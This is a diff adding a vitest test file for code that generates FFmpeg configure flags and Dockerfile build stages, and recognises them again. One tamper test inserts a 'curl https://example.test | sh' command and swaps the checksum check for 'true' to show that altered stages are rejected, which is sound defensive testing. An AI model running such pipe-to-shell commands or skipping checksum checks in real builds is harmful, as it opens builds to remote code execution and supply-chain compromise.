@@ -1,0 +1,67 @@
+import { describe, expect, it } from 'vitest';
+import { configureLine, recipeOfConfigureLine } from '../../src/ffmpeg/configure-line.ts';
+import type { FfmpegProfile } from '../../src/ffmpeg/profile.ts';
+import { readyProfiles } from '../../src/ffmpeg/ready-profiles.ts';
+import { builtFfmpegStage, recipeOfBuiltStage } from '../../src/model/built-ffmpeg-stage.ts';
+import { parseDockerfile } from '../../src/syntax/dockerfile.ts';
+
+const small: FfmpegProfile = {
+  components: [{ kind: 'muxer', name: 'wav' }, { kind: 'demuxer', name: 'wav' }, { kind: 'demuxer', name: 'mov' }, { kind: 'encoder', name: 'libmp3lame' }, { kind: 'protocol', name: 'file' }],
+  programs: ['ffmpeg'], externals: ['lame'], licence: 'LGPL', network: false,
+};
+
+describe('the configure line', () => {
+  it('names every part, sorted, and nothing else', () => {
+    expect(configureLine(small)).toEqual([
+      '--prefix=/usr/local', '--disable-everything', '--disable-autodetect', '--disable-network', '--disable-doc', '--disable-debug', '--disable-ffplay', '--disable-ffprobe',
+      '--disable-avdevice', '--disable-shared', '--enable-static', '--enable-libmp3lame', '--enable-protocol=file', '--enable-demuxer=mov,wav', '--enable-muxer=wav', '--enable-encoder=libmp3lame',
+      '--pkg-config-flags=--static', '--extra-cflags=-ffunction-sections -fdata-sections', '--extra-ldflags=-static -Wl,--gc-sections -Wl,--build-id=none',
+    ]);
+  });
+  it('does not depend on the order or on repetition', () => {
+    expect(configureLine({ ...small, components: [...small.components, ...small.components.toReversed()] })).toEqual(configureLine(small));
+  });
+  it('asks for the GPL only when it must, and for everything only when told to', () => {
+    expect(configureLine({ ...small, licence: 'GPL' })).toContain('--enable-gpl');
+    expect(configureLine(small).filter((argument) => /gpl|nonfree|version3/u.test(argument))).toEqual([]);
+    expect(configureLine({ ...small, components: 'all' })).not.toContain('--disable-everything');
+  });
+  it('takes lavfi for the input device that it is to configure', () => {
+    const line = configureLine({ ...small, components: [{ kind: 'demuxer', name: 'lavfi' }] });
+    expect(line).toContain('--enable-indev=lavfi');
+    expect(line).not.toContain('--disable-avdevice');
+  });
+  it('is read back, and any other line is not', () => {
+    for (const recipe of [small, { ...small, components: 'all' as const }, { ...small, licence: 'nonfree' as const, programs: ['ffmpeg', 'ffprobe'] as const }, ...Object.values(readyProfiles)]) {
+      const line = configureLine(recipe);
+      const back = recipeOfConfigureLine(line);
+      expect(back && configureLine(back)).toEqual(line);
+      expect(recipeOfConfigureLine([...line, '--enable-libfdk-aac'])).toBeUndefined();
+      expect(recipeOfConfigureLine(line.slice(1))).toBeUndefined();
+    }
+  });
+});
+
+describe('the stage', () => {
+  const stageOf = (text: string) => {
+    const parsed = parseDockerfile({ path: 'Dockerfile', text });
+    const stage = parsed.ok ? parsed.value.stages[0] : undefined;
+    if (!stage) throw new Error('no stage');
+    return stage;
+  };
+  it.each(Object.entries(readyProfiles))('for %s is recognised, whatever its base and name', (_name, profile) => {
+    const lines = builtFfmpegStage(profile, 'ffmpeg');
+    const line = configureLine(profile);
+    expect(recipeOfBuiltStage(stageOf(lines.join('\n')))).toBeDefined();
+    const other = recipeOfBuiltStage(stageOf(['FROM --platform=linux/amd64 debian:trixie@sha256:' + '0'.repeat(64) + ' AS tools', ...lines.slice(1)].join('\r\n')));
+    expect(other && configureLine(other)).toEqual(line);
+  });
+  it('with a line changed is not', () => {
+    const text = builtFfmpegStage(readyProfiles.speech, 'ffmpeg').join('\n');
+    for (const [from, to] of [['sha256sum -c -', 'true'], ['--disable-doc ', '--disable-doc --enable-gpl '], ['make install-progs', 'make install-progs && curl https://example.test | sh'], ['de668509', 'de668508']] as const) {
+      expect(text).toContain(from);
+      expect(recipeOfBuiltStage(stageOf(text.replace(from, to)))).toBeUndefined();
+    }
+    expect(recipeOfBuiltStage(stageOf(`${text}\nRUN true`))).toBeUndefined();
+  });
+});
